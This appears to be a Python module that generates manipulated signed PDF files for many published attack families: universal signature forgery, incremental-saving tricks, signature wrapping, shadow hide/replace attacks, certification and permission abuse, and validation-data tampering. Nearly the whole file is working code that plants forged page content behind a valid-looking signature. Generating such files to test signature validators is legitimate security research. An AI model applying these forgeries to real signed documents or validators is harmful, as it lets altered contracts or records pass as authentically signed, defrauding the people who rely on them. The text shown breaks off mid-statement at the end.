"""Attacks on signed files that the literature knows, each as a file.

    universal forgery, incremental saving, signature wrapping:
        Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, CCS 2019
    shadow attacks (hide, replace, hide and replace):
        Mainka, Mladenov, Rohlmann, NDSS 2021
    certification attacks (evil annotation, sneaky signature):
        Rohlmann, Mladenov, Mainka, Schwenk, IEEE S&P 2021

Each function takes the Bases and gives {name: bytes}; what makes a victim sign first is done there. The
attacker has no key of the victim's, but one of his own."""
import io
import re
import struct

import cms
import pikepdf

FAMILIES = {}


def family(name):
    def register(function):
        FAMILIES.setdefault(name, []).append(function)
        return function
    return register


# --- Writing revisions as any program would ------------------------------------------------------


def number_of_objects(pdf):
    return max(map(int, re.findall(rb"/Size (\d+)", pdf)))


def last_object(pdf, pattern):
    """(number, body) of the last plain object that holds this."""
    found = [(int(m[1]), m[2]) for m in re.finditer(rb"(\d+) 0 obj\n(<<.*?)\nendobj", pdf, re.S)
             if re.search(pattern, m[2])]
    return found[-1]


def as_it_stands(data, pdf, value):
    """The text of an object, byte for byte: what is changed in it shall be all that differs."""
    number = value.objgen[0]
    plain = re.findall(rb"(?:^|\n)%d 0 obj\n(<<.*?)\nendobj" % number, data, re.S)
    if plain:
        return plain[-1]
    for packed in pdf.objects:
        if not isinstance(packed, pikepdf.Stream) or packed.get("/Type") != "/ObjStm":
            continue
        text, first = packed.read_bytes(), int(packed.First)
        head = list(map(int, text[:first].split()))
        places = dict(zip(head[::2], head[1::2]))
        if number in places:
            ends = [at for at in places.values() if at > places[number]]
            return text[first + places[number]:first + min(ends, default=len(text) - first)].strip()
    raise ValueError(number)


def start_of_xref(pdf):
    return int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])


def root_of(pdf):
    return re.findall(rb"/Root (\d+ 0 R)", pdf)[-1]


def append_objects(pdf, objects):
    out, places = pdf if pdf.endswith(b"\n") else pdf + b"\n", {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return out, places


def table(places, free=()):
    out = b"xref\n"
    free = free or ([] if places else [0])
    rows = {**{n: b"%010d 00000 n\r\n" % at for n, at in places.items()},
            **{n: b"0000000000 65535 f\r\n" for n in free}}
    for number, row in sorted(rows.items()):
        out += b"%d 1\n%s" % (number, row)
    return out


def revision(pdf, objects, free=(), prev=None, extra=b"", root=None):
    """The file with these objects written behind it, in a table: {number: bytes}."""
    out, places = append_objects(pdf, objects)
    start, size = len(out), max([number_of_objects(pdf), *objects]) + 1
    out += table(places, free)
    prev = b"/Prev %d" % (start_of_xref(pdf) if prev is None else prev) if prev != 0 else b""
    return out + b"trailer\n<</Size %d/Root %s%s%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root or root_of(pdf), prev, extra, start)


def xref_stream(number, entries, size, more):
    """An uncompressed cross-reference stream: {number: (kind, place, index)}."""
    index = b" ".join(b"%d 1" % n for n in sorted(entries))
    rows = b"".join(struct.pack(">BIH", *entries[n]) for n in sorted(entries))
    return b"<</Type/XRef/W[1 4 2]/Index[%s]/Size %d%s/Length %d>>\nstream\n%s\nendstream" % (
        index, size, more, len(rows), rows)


def stream_revision(pdf, objects, packed=None, prev=None):
    """The same with a cross-reference stream; `packed` objects go into an object stream."""
    packed, size = packed or {}, max([number_of_objects(pdf), *objects, *(packed or {})]) + 3
    if packed:
        head = places = b""
        for number, body in packed.items():
            head += b"%d %d " % (number, len(places))
            places += body + b" "
        objects = {**objects, size - 2: b"<</Type/ObjStm/N %d/First %d/Length %d>>\nstream\n%s\n"
                   b"endstream" % (len(packed), len(head), len(head + places), head + places)}
    out, places = append_objects(pdf, objects)
    entries = {n: (1, at, 0) for n, at in places.items()}
    entries.update({n: (2, size - 2, i) for i, n in enumerate(packed)})
    entries[size - 1] = (1, len(out), 0)
    more = b"/Root %s/Prev %d" % (root_of(pdf), start_of_xref(pdf) if prev is None else prev)
    return out + b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        size - 1, xref_stream(size - 1, entries, size, more), len(out))


def stream(content, keys=b""):
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (keys, len(content), content)


class Signed:
    """A signed file and where its parts are."""

    def __init__(self, data):
        self.data = data
        with pikepdf.open(io.BytesIO(data)) as pdf:
            page = pdf.pages[0].obj
            self.page, self.page_number = as_it_stands(data, pdf, page), page.objgen[0]
            contents = page.Contents
            self.content = (contents[0] if isinstance(contents, pikepdf.Array)
                            else contents).objgen[0]
            self.catalog = as_it_stands(data, pdf, pdf.Root)
            self.catalog_number = pdf.Root.objgen[0]
            fonts = pdf.pages[0].Resources.Font
            self.font = next(fonts[k] for k in sorted(fonts.keys())).objgen[0]
            self.other_font = [fonts[k] for k in sorted(fonts.keys())][-1].unparse(resolved=True)
            form = pdf.Root.get("/AcroForm", {})
            self.form = [f.objgen[0] for f in form.get("/Fields", [])]
        self.new = number_of_objects(data)
        self.new_of, self.bodies = {}, {}
        if b"/ByteRange" in data:
            self.signature, self.signature_body = last_object(data, rb"/Type ?/Sig\b")

    def page_with(self, pattern, new):
        changed = re.sub(pattern, lambda m: m.expand(new), self.page, count=1)
        assert changed != self.page, pattern
        return {self.page_number: changed}

    def page_with_annotation(self, number):
        if b"/Annots" not in self.page:
            return {self.page_number: self.page[:-2] + b"/Annots [ %d 0 R ] >>" % number}
        return self.page_with(rb"/Annots ?\[([^]]*)\]", rb"/Annots [\1 %d 0 R]" % number)

    def form_with_field(self, number):
        changed = re.sub(rb"/Fields ?\[([^]]*)\]", rb"/Fields [\1 %d 0 R]" % number, self.catalog)
        assert changed != self.catalog
        return {self.catalog_number: changed}


FAKE = b"q 1 1 1 rg 60 60 480 700 re f 0 g BT /F1 24 Tf 100 500 Td (0 applications) Tj ET Q"
HELVETICA = b"/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
FAKE_FORM = stream(FAKE, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]" + HELVETICA)


class Bases:
    """What is attacked. `sign` signs bytes as the victim does, with more options of banxin sign;
    `certify` certifies with another P; `own` adds the attacker's own signature; `level` signs as B-LT
    or B-LTA."""

    def __init__(self, plain, fields, sign, certify, own, level):
        self.plain = plain
        self.signed = Signed(sign(plain))
        self.certified1, self.certified3 = (Signed(certify(fields, p)) for p in (1, 3))
        self.certified2 = Signed(sign(fields, "--certify"))
        for name, build in (("image", self.cover_by_image), ("form", self.cover_by_form),
                            ("note", self.cover_by_note), ("field", self.with_field),
                            ("objects", self.with_objects)):
            before = Signed(plain)
            shadow = Signed(sign(build(before)))
            shadow.new_of, shadow.bodies = before.new_of, before.bodies
            setattr(self, "shadow_" + name, shadow)
        self.lt, self.lta = (Signed(level(plain, name)) for name in ("lt", "lta"))
        for name in ("page", "pages", "fonts", "kids"):
            before = Signed(plain)
            shadow = Signed(sign(self.with_store(before, name)))
            shadow.new_of = before.new_of
            setattr(self, "shadow_store_" + name, shadow)
        self.own_signatures = own(self)

    def number(self, file, *names):
        file.new_of = {name: file.new + i for i, name in enumerate(names)}
        return list(file.new_of.values())

    def covered_page(self, file, cover, cover_body):
        """The attacker's text under something that covers it."""
        content = FAKE + b" q 480 0 0 700 60 60 cm /Cover Do Q"
        page = re.sub(rb"/Resources (\d+ 0 R|<<.*?>>(?= ?/|>>))", b"", file.page)
        more = HELVETICA[:-2] + b"/XObject<</Cover %d 0 R>>>>" % cover
        return revision(file.data, {file.page_number: page[:-2] + more + b">>",
                                    file.content: stream(content), cover: cover_body})

    def cover_by_image(self, file):
        cover, = self.number(file, "cover")
        return self.covered_page(file, cover, stream(
            b"\xff", b"/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray"
            b"/BitsPerComponent 8"))

    def cover_by_form(self, file):
        cover, = self.number(file, "cover")
        return self.covered_page(file, cover, stream(
            b"1 g 0 0 1 1 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 1 1]"))

    def cover_by_note(self, file):
        cover, look = self.number(file, "cover", "look")
        return revision(file.data, {
            **file.page_with_annotation(cover),
            cover: b"<</Type/Annot/Subtype/Square/Rect[0 0 595 842]/F 4/AP<</N %d 0 R>>>>" % look,
            look: stream(b"1 g 0 0 595 842 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]")})

    def with_field(self, file):
        field, look = self.number(file, "field", "look")
        file.bodies["field"] = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(n)/V(1)/DA(/Helv 12 Tf)" \
            b"/F 4/Rect[60 60 90 90]/P %d 0 R/AP<</N %d 0 R>>>>" % (file.page_number, look)
        return revision(file.data, {
            **file.page_with_annotation(field), field: file.bodies["field"],
            file.catalog_number: file.catalog[:-2] + b"/AcroForm<</Fields [ %d 0 R ]>>>>" % field,
            look: stream(b"BT /F1 12 Tf (1) Tj ET",
                         b"/Type/XObject/Subtype/Form/BBox[0 0 30 30]" + HELVETICA)})

    def with_store(self, file, name):
        """A store one part of which is something else as well: the page, the tree of pages, its kids, the
        fonts of a page. What signing may add to the store would be added to them."""
        other, = self.number(file, "other")
        tree = int(re.search(rb"/Pages (\d+) 0 R", file.catalog)[1])
        store = {"page": b"/VRI %d 0 R" % file.page_number, "pages": b"/VRI %d 0 R" % tree,
                 "fonts": b"/VRI %d 0 R" % other, "kids": b"/Certs %d 0 R" % other}[name]
        objects = {file.catalog_number: file.catalog[:-2] + b"/DSS<<%s>>>>" % store}
        if name == "fonts":
            objects[other] = b"<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"
            objects[file.page_number] = file.page[:-2] + b"/Was<</Font %d 0 R>>>>" % other
        if name == "kids":
            objects[other] = b"[%d 0 R]" % file.content
            objects[file.page_number] = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % other,
                                               file.page)
        return revision(file.data, objects)

    def with_objects(self, file):
        page, content, tree, catalog = self.number(file, "page", "content", "tree", "catalog")
        unused = b"%d 0 obj\n%s\nendobj\n" % (file.content, stream(FAKE))
        return revision(file.data + b"\n" + unused, {
            page: b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Contents %d 0 R%s>>" % (
                tree, content, HELVETICA),
            content: stream(FAKE),
            tree: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % page,
            catalog: b"<</Type/Catalog/Pages %d 0 R>>" % tree})


# --- Universal forgery ---------------------------------------------------------------------------

RANGE, CONTENTS = rb"/ByteRange ?\[[^]]*\]", rb"/Contents ?<[^>]*>"

# Name: what in the signature dictionary becomes what.
FORGED = {
    "no ByteRange": (RANGE, b""),
    "ByteRange null": (RANGE, b"/ByteRange null"),
    "ByteRange empty": (RANGE, b"/ByteRange[]"),
    "ByteRange a name": (RANGE, b"/ByteRange/All"),
    "ByteRange a string": (RANGE, b"/ByteRange(0 9 12 9)"),
    "ByteRange a number": (RANGE, b"/ByteRange 0"),
    "ByteRange a reference to nothing": (RANGE, b"/ByteRange 99999 0 R"),
    "ByteRange of names": (RANGE, b"/ByteRange[/a/b/c/d]"),
    "ByteRange of reals": (RANGE, b"/ByteRange[0.0 9.5 12.5 9.5]"),
    "ByteRange all zero": (RANGE, b"/ByteRange[0 0 0 0]"),
    "ByteRange of two numbers": (RANGE, b"/ByteRange[0 1000]"),
    "ByteRange of six numbers": (RANGE, b"/ByteRange[0 9 12 9 30 9]"),
    "ByteRange negative": (rb"/ByteRange ?\[0", b"/ByteRange[-1"),
    "ByteRange negative length": (rb"/ByteRange ?\[0 ", b"/ByteRange[0 -"),
    "ByteRange not from the start": (rb"/ByteRange ?\[0 ", b"/ByteRange[9 "),
    "ByteRange overlapping": (rb"/ByteRange ?\[0 (\d+) \d+ ", rb"/ByteRange[0 \1 \1 "),
    "ByteRange beyond the end": (RANGE, b"/ByteRange[0 99 999999999 99]"),
    "ByteRange too large for a number": (RANGE, b"/ByteRange[0 99999999999999999999 9 9]"),
    "ByteRange without a gap": (RANGE, b"/ByteRange[0 1000 1000 1000]"),
    "ByteRange twice": (rb"/ByteRange ?\[", b"/ByteRange[0 9 12 9]/ByteRange["),
    "no Contents": (CONTENTS, b""),
    "Contents null": (CONTENTS, b"/Contents null"),
    "Contents empty": (CONTENTS, b"/Contents<>"),
    "Contents zero": (CONTENTS, b"/Contents<00>"),
    "Contents zeroes": (CONTENTS, lambda m: b"/Contents<" + b"0" * (len(m[0]) - 11) + b">"),
    "Contents a number": (CONTENTS, b"/Contents 0"),
    "Contents a reference to nothing": (CONTENTS, b"/Contents 99999 0 R"),
    "Contents a string": (CONTENTS, b"/Contents(0)"),
    "no SubFilter": (rb"/SubFilter ?/[\w.]+", b""),
    "SubFilter unknown": (rb"/SubFilter ?/[\w.]+", b"/SubFilter/None"),
    "SubFilter x509": (rb"/SubFilter ?/[\w.]+", b"/SubFilter/adbe.x509.rsa_sha1"),
    "empty dictionary": (rb"<<.*>>", b"<<>>"),
    "no dictionary": (rb"<<.*>>", b"null"),
}


@family("universal forgery")
def forge_dictionary(bases):
    """The signature dictionary replaced behind, and in place; the page is changed too."""
    signed, made = bases.signed, {}
    for name, (pattern, new) in FORGED.items():
        body = re.sub(pattern, new, signed.signature_body, count=1, flags=re.S)
        assert body != signed.signature_body, name
        made[name] = revision(signed.data, {
            signed.signature: body,
            signed.content: stream(FAKE)})
        if len(body) <= len(signed.signature_body):
            padded = body[:-2] + b" " * (len(signed.signature_body) - len(body)) + body[-2:] \
                if body.endswith(b">>") else body.ljust(len(signed.signature_body))
            made[name + ", in place"] = signed.data.replace(signed.signature_body, padded)
    return made


# --- Incremental saving --------------------------------------------------------------------------


@family("incremental saving")
def save_more(bases):
    signed = bases.signed
    data, new = signed.data, signed.new
    fake = {signed.content: stream(FAKE)}
    bare, places = append_objects(data, fake)
    copy = {**fake, new: signed.signature_body}
    old = re.findall(rb"startxref\s+\d+\s+%%EOF\s*", data)[-1]
    page_tree = re.search(rb"/Pages (\d+) 0 R", signed.catalog)[1]
    return {
        "page content replaced": revision(data, fake),
        "page content replaced, cross-reference stream": stream_revision(data, fake),
        "no cross-reference": bare,
        "no cross-reference, but an end": bare + old,
        "cross-reference without trailer": bare + table(places) + old,
        "trailer without cross-reference":
            bare + b"trailer\n<</Size %d/Root %s/Prev %d>>\n" % (new, root_of(data),
                                                                 start_of_xref(data)) + old,
        "startxref to nowhere": bare + b"startxref\n9\n%%EOF\n",
        "no Prev": revision(data, fake, prev=0),
        "Prev to itself": revision(data, fake, prev=len(bare)),
        "with a copy of the signature": revision(data, copy),
        "another catalog": revision(data, {new: b"<</Type/Catalog/Pages %s 0 R>>" % page_tree},
                                    root=b"%d 0 R" % new),
        "another page tree": revision(data, {
            int(page_tree): b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % new,
            new: b"<</Type/Page/Parent %s 0 R/MediaBox[0 0 595 842]/Contents %d 0 R%s>>" % (
                page_tree, new + 1, HELVETICA),
            new + 1: stream(FAKE)}),
        "page in an object stream": stream_revision(
            data, {new + 4: stream(FAKE)},
            signed.page_with(rb"/Contents \d+", b"/Contents %d" % (new + 4))),
        "catalog in an object stream": stream_revision(
            data, {}, {signed.catalog_number: signed.catalog[:-2] + b"/OpenAction<</S/URI/URI(x)>>>>"}),
        "hidden in a hybrid file": hybrid(signed),
        "page removed": revision(data, {}, free=[signed.page_number]),
        "box made small": revision(data, signed.page_with(rb"/MediaBox ?\[[^]]*\]",
                                                          b"/MediaBox [0 0 9 9]")),
        "page turned": revision(data, {signed.page_number: signed.page[:-2] + b"/Rotate 180>>"}),
        "optional content": revision(data, {
            signed.catalog_number: signed.catalog[:-2] +
            b"/OCProperties<</OCGs[]/D<</OFF[]>>>>>>"}),
        "script": revision(data, {
            signed.catalog_number: signed.catalog[:-2] +
            b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"}),
        "attachment": revision(data, {
            signed.catalog_number: signed.catalog[:-2] + b"/AF[%d 0 R]>>" % new,
            new: b"<</Type/Filespec/F(a.json)/EF<</F %d 0 R>>>>" % (new + 1),
            new + 1: stream(b"{}")}),
    }


def hybrid(signed):
    """A table that shows nothing new, and beside it a stream that does."""
    out, places = append_objects(signed.data, {signed.content: stream(FAKE)})
    number, size = signed.new + 1, signed.new + 2
    more = b"/Root %s" % root_of(out)
    hidden = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (number, xref_stream(
        number, {signed.content: (1, places[signed.content], 0), number: (1, hidden, 0)}, size, more))
    start = len(out)
    return out + b"xref\n0 1\n0000000000 65535 f\r\ntrailer\n<</Size %d/Root %s/Prev %d/XRefStm " \
        b"%d>>\nstartxref\n%d\n%%%%EOF\n" % (size, root_of(signed.data),
                                             start_of_xref(signed.data), hidden, start)


# --- The end of the file -------------------------------------------------------------------------


@family("end of file")
def end_again(bases):
    signed = bases.signed
    data = signed.data
    first = len(bases.plain)
    changed = revision(bases.plain, {signed.content: stream(FAKE)})
    return {
        "a comment behind it": data + b"% a note\n",
        "blanks behind it": data + b"\n" * 40,
        "a second end": data + b"%%EOF\n",
        "a second startxref to the old one": data + b"startxref\n%d\n%%%%EOF\n" % start_of_xref(data),
        "startxref to before the signature":
            data + b"startxref\n%d\n%%%%EOF\n" % start_of_xref(bases.plain),
        "another PDF behind it": data + changed,
        "all written again behind it": written_again(signed, {signed.content: FAKE}),
        "all written again behind it, the page as it was": written_again(signed, {}),
        "another PDF before it": changed + data,
        "bytes before the header": b"\n" * 16 + data,
        "cut in the last line": data[:-3],
        "the signature's revision twice": data + data[first:],
    }


def written_again(signed, contents):
    """A whole file behind the signed one, with its signature in it, that needs nothing of it."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(signed.data)) as pdf:
        for number, content in contents.items():
            pdf.get_object(number, 0).write(content)
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    new, by = out.getvalue(), len(signed.data)
    at = new.rindex(b"\nxref\n") + 1
    shifted = re.sub(rb"(?m)^(\d{10}) (\d{5} n)", lambda m: b"%010d %s" % (int(m[1]) + by, m[2]),
                     new[at:])
    return signed.data + new[:at] + re.sub(
        rb"startxref\n(\d+)", lambda m: b"startxref\n%d" % (int(m[1]) + by), shifted)


# --- Signature wrapping --------------------------------------------------------------------------


def wrap(signed, inside, is_padded=True):
    """Moves the second signed stretch to the end and puts `inside` between the signature and it. What the
    signed startxref points to becomes the attacker's; the signed bytes stay, in two pieces."""
    (_, der, (_, start, end, tail)), = cms.signatures(signed.data)
    behind = signed.data[end:]
    xref_at = int(re.findall(rb"startxref\s+(\d+)", behind)[-1])
    hexed = b"<" + der.hex().encode() + b">"
    objects = {signed.content: stream(FAKE)}
    for _ in range(3):  # until the numbers are of the length they were taken for
        new_end = getattr(wrap, "end", 0)
        gap = hexed + inside(new_end, start, tail)
        body = signed.data[:start] + gap + b">>\nendobj\n"
        places = {}
        for number, content in objects.items():
            places[number] = len(body)
            body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
        assert len(body) <= xref_at or not is_padded
        body = body.ljust(xref_at)
        at = len(body)
        body += table({**places, signed.signature: signed.data.index(
            b"%d 0 obj\n<</Type/Sig" % signed.signature)})
        body += b"trailer\n<</Size %d/Root %s/Prev %s>>\nstartxref\n%d\n%%%%EOF\n%%" % (
            signed.new, root_of(signed.data),
            re.findall(rb"/Prev (\d+)", behind)[-1], at)
        wrap.end = len(body)
    return body + behind


@family("signature wrapping")
def wrap_all(bases):
    signed = bases.signed
    data = signed.data
    (_, der, (_, start, end, tail)), = cms.signatures(data)
    fresh = b"%d 0 obj\n%s\nendobj\n" % (signed.content, stream(FAKE))
    moved = data[:end] + fresh + data[end:]

    def shifted(body, by):
        at = start_of_xref(body)
        return re.sub(rb"startxref\s+%d" % at, b"startxref\n%d" % (at + by), body)

    gap = data[start:end]
    hexed = b"<" + der.hex().encode() + b">"
    room = len(gap) - len(hexed)
    short = fresh if len(fresh) <= room else fresh[:room]
    inside = hexed + short.ljust(room)
    longer = re.sub(RANGE, lambda m: (b"/ByteRange[0 %d %d %d" % (start, end + len(fresh), tail))
                    .ljust(len(m[0]) - 1) + b"]", moved)
    return {
        "a second ByteRange in the gap": wrap(
            signed, lambda at, start, tail: b"/ByteRange[0 %d %d %d]" % (start, at, tail)),
        "a second ByteRange and Contents in the gap": wrap(
            signed, lambda at, start, tail: b"/ByteRange[0 %d %d %d]/Contents<00>" % (
                start, at, tail)),
        "moved, ByteRange left": moved,
        "moved, ByteRange left, startxref made right": shifted(moved, len(fresh)),
        "moved, ByteRange made right": shifted(longer, len(fresh)),
        "object in the gap": data[:start] + inside + data[end:],
        "comment in the gap": data[:start] + hexed + b"%" + b"x" * (room - 1) + data[end:],
        "second Contents in the gap":
            data[:start] + (hexed + b"/Contents<00>").ljust(len(gap)) + data[end:],
        "the gap wider than Contents": data.replace(
            b"%d %d %d" % (start, end, tail), b"%d %d %d" % (start - 1, end, tail)),
        "another signature's place": revision(data, {
            signed.signature: signed.signature_body.replace(b"/M(", b"/M (")}),
    }


# --- Shadow attacks ------------------------------------------------------------------------------


@family("shadow: hide")
def hide(bases):
    """The victim signs a page on which something covers the attacker's text; then the cover goes away."""
    image, form, note = bases.shadow_image, bases.shadow_form, bases.shadow_note
    cover = image.new_of["cover"]
    return {
        "image that covers, freed": revision(image.data, {}, free=[cover]),
        "image that covers, made null": revision(image.data, {cover: b"null"}),
        "image that covers, made empty": revision(image.data, {
            cover: stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 0 0]")}),
        "form that covers, made empty": revision(form.data, {
            form.new_of["cover"]: stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 0 0]")}),
        "annotation that covers, removed": revision(note.data, note.page_with(
            rb"/Annots ?\[ ?%d 0 R" % note.new_of["cover"], b"/Annots[")),
        "annotation that covers, hidden": revision(note.data, {
            note.new_of["cover"]: b"<</Type/Annot/Subtype/Square/Rect[0 0 595 842]/F 2>>"}),
        "annotation's look, emptied": revision(note.data, {
            note.new_of["look"]: stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 0 0]")}),
    }


@family("shadow: replace")
def replace(bases):
    """What looks harmless after a signature: the value of a field, a font."""
    field, signed = bases.shadow_field, bases.signed
    text = field.new_of["field"]
    body = field.bodies["field"]
    font = {signed.font: signed.other_font}
    return {
        "value of a text field": revision(field.data, {text: body.replace(b"(1)", b"(9)")}),
        "look of a text field": revision(field.data, {field.new_of["look"]: FAKE_FORM}),
        "value beside the look": revision(field.data, {text: body.replace(b"/V(1)", b"/V(9)/DV(1)")}),
        "font of the page": revision(signed.data, font),
        "font of the page, cross-reference stream": stream_revision(signed.data, font),
        "font of the page, in an object stream": stream_revision(signed.data, {}, font),
        "map of a font to text": revision(signed.data, {signed.font: signed.other_font}),
    }


@family("shadow: hide and replace")
def hide_and_replace(bases):
    """The victim signs a file in which another page's objects lie unused; then they are used."""
    shadow = bases.shadow_objects
    data, hidden, content = shadow.data, shadow.new_of["content"], shadow.content
    place = data.index(b"%d 0 obj\n" % hidden)
    page = data.index(b"%d 0 obj\n" % shadow.new_of["page"])
    same = data.index(b"\n%d 0 obj\n%s" % (content, b"<</Length %d" % len(FAKE))) + 1
    assert place and page
    kids = re.search(rb"/Pages (\d+) 0 R", shadow.catalog)[1]

    def only_table(places, extra=b""):
        start = len(data)
        return data + table(places) + b"trailer\n<</Size %d/Root %s/Prev %d%s>>\nstartxref\n%d\n" \
            b"%%%%EOF\n" % (shadow.new, root_of(data), start_of_xref(data), extra, start)

    return {
        "the number of the page's content leads to hidden content": only_table({content: same}),
        "page's content is the hidden one": revision(data, shadow.page_with(
            rb"/Contents \d+", b"/Contents %d" % hidden)),
        "page tree with the hidden page": revision(data, {
            int(kids): b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % shadow.new_of["page"]}),
        "catalog is the hidden one": revision(data, {},
                                              root=b"%d 0 R" % shadow.new_of["catalog"]),
        "catalog is the hidden one, table only": only_table({}, b"").replace(
            b"/Root " + root_of(data) + b"/Prev %d" % start_of_xref(data),
            b"/Root %d 0 R/Prev %d" % (shadow.new_of["catalog"], start_of_xref(data))),
    }


# --- Certification -------------------------------------------------------------------------------

ANNOTATIONS = {
    "free text": b"/FreeText/DA(/Helv 12 Tf)/Contents(0 applications)",
    "stamp": b"/Stamp/Name/Approved",
    "redaction": b"/Redact/OverlayText(0)/QuadPoints[0 0 9 0 0 9 9 9]",
    "highlight": b"/Highlight/QuadPoints[0 0 9 0 0 9 9 9]",
    "ink": b"/Ink/InkList[[0 0 9 9]]",
    "square": b"/Square/IC[1 1 1]",
    "note": b"/Text/Contents(see page 9)",
    "link": b"/Link/A<</S/URI/URI(http://example.org)>>",
    "attachment": b"/FileAttachment",
    "watermark": b"/Watermark",
    "film": b"/Screen",
}


@family("certification: evil annotation")
def annotate(bases):
    """Annotations after each kind of certification; after an ordinary signature too."""
    made = {}
    for base in ("signed", "certified1", "certified2", "certified3"):
        signed = getattr(bases, base)
        new = signed.new
        for name, kind in ANNOTATIONS.items():
            note = b"<</Type/Annot/Subtype%s/Rect[60 60 540 760]/F 4/AP<</N %d 0 R>>>>" % (
                kind, new + 1)
            made[f"{name} after {base}"] = revision(signed.data, {
                **signed.page_with_annotation(new), new: note, new + 1: FAKE_FORM})
    return made


def widget(number, more):
    return b"<</Type/Annot/Subtype/Widget/P %d 0 R/Rect[60 60 540 760]/F 4%s>>" % (number, more)


@family("certification: sneaky signature")
def sneak(bases):
    """Fields whose look covers the page, after each kind of certification."""
    made = {}
    for base in ("signed", "certified1", "certified2", "certified3"):
        signed = getattr(bases, base)
        new, page = signed.new, signed.page_number
        look = b"/AP<</N %d 0 R>>" % (new + 1)
        fields = {
            "empty signature field": b"/FT/Sig/T(more)" + look,
            "field with no signature in it": b"/FT/Sig/T(more)/V %d 0 R" % (new + 2) + look,
            "field with the victim's signature": b"/FT/Sig/T(more)/V %d 0 R" % signed.signature + look,
            "text field": b"/FT/Tx/T(more)/V(0)/DA(/Helv 9 Tf)" + look,
            "button": b"/FT/Btn/T(more)/Ff 65536" + look,
            "widget of a field that was there": b"/Parent %d 0 R" % signed.form[0] + look,
            "widget that is no field": look,
        }
        for name, more in fields.items():
            objects = {new: widget(page, more), new + 1: FAKE_FORM, new + 2: b"<</Type/Sig>>",
                       **signed.page_with_annotation(new)}
            if not name.startswith("widget"):
                objects.update(signed.form_with_field(new))
            made[f"{name} after {base}"] = revision(signed.data, objects)
    return made


@family("certification: sneaky signature")
def sign_visibly(bases):
    """The attacker signs with a key of his own, in a field he adds that covers the page."""
    return {f"own signature over the page after {name}": data
            for name, data in bases.own_signatures.items()}


@family("certification: permissions")
def widen(bases):
    """Certification widened, taken away or put in."""
    signed, certified = bases.signed, bases.certified2
    open_perms = re.sub(rb"/Perms ?<<.*?>>", b"", certified.catalog)
    wide = re.sub(rb"/P 2\b", b"/P 3", certified.signature_body)
    assert open_perms != certified.catalog and wide != certified.signature_body
    note = {**certified.page_with_annotation(certified.new),
            certified.new: b"<</Type/Annot/Subtype/Stamp/Rect[0 0 99 99]>>"}
    return {
        "Perms taken out": revision(certified.data, {certified.catalog_number: open_perms}),
        "Perms taken out and annotated": revision(
            certified.data, {certified.catalog_number: open_perms, **note}),
        "P 2 made P 3": revision(certified.data, {certified.signature: wide, **note}),
        "P 2 made P 3 in place": certified.data.replace(b"/P 2/V/1.2", b"/P 3/V/1.2"),
        "Perms put in": revision(signed.data, {
            signed.catalog_number:
                signed.catalog[:-2] + b"/Perms<</DocMDP %d 0 R>>>>" % signed.signature}),
        "usage rights put in": revision(signed.data, {
            signed.catalog_number: signed.catalog[:-2] + b"/Perms<</UR3 %d 0 R>>>>" % signed.signature}),
    }


@family("validation data")
def fill_store(bases):
    """Changes dressed as validation data and time-stamps of the document."""
    made = {}
    for name in ("signed", "certified1", "certified2", "lt", "lta"):
        base = getattr(bases, name)
        new = base.new
        bare = re.sub(rb"/DSS ?(<<.*?>>|\d+ 0 R)", b"", base.catalog)
        text = stream(b"0 applications")

        def with_store(store, more=b"", **objects):
            return revision(base.data, {base.catalog_number: bare[:-2] + b"/DSS" + store + more + b">>",
                                        new: text, **{new + int(k[1:]): v for k, v in objects.items()}})
        made.update({
            f"a certificate that is none, after {name}": with_store(b"<</Certs[%d 0 R]>>" % new),
            f"a list with more in it, after {name}": with_store(b"<</Certs[(x) /y]>>"),
            f"an unknown key, after {name}": with_store(b"<</Extra %d 0 R>>" % new),
            f"an action beside the store, after {name}": with_store(
                b"<<>>", b"/OpenAction<</S/URI/URI(x)>>"),
            f"the page as the store, after {name}": with_store(b" %d 0 R" % base.page_number),
            f"a field with a time-stamp that is none, after {name}": revision(base.data, {
                **base.page_with_annotation(new), **base.form_with_field(new),
                new: widget(base.page_number, b"/FT/Sig/T(ts)/V %d 0 R/AP<</N %d 0 R>>" % (
                    new + 1, new + 2)),
                new + 1: b"<</Type/DocTimeStamp/Filter/Adobe.PPKLite/SubFilter/ETSI.RFC3161"
                         b"/ByteRange[0 9 12 9]/Contents<00>>>", new + 2: FAKE_FORM})})
    made["the store emptied, lta"] = revision(bases.lta.data, {
        bases.lta.catalog_number: re.sub(rb"/DSS ?(<<.*?>>|\d+ 0 R)", b"/DSS<<>>", bases.lta.catalog)})
    page, pages, fonts, kids = (getattr(bases, "shadow_store_" + n)
                                for n in ("page", "pages", "fonts", "kids"))
    tree = int(re.search(rb"/Pages (\d+) 0 R", pages.catalog)[1])
    other = fonts.new_of["other"]
    made.update({
        "a page that is part of the store": revision(page.data, {
            **page.page_with(rb"/Contents \d+", b"/Contents %d" % page.new),
            page.new: stream(FAKE)}),
        "a tree of pages that is part of the store": revision(pages.data, {
            tree: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % pages.page_number}),
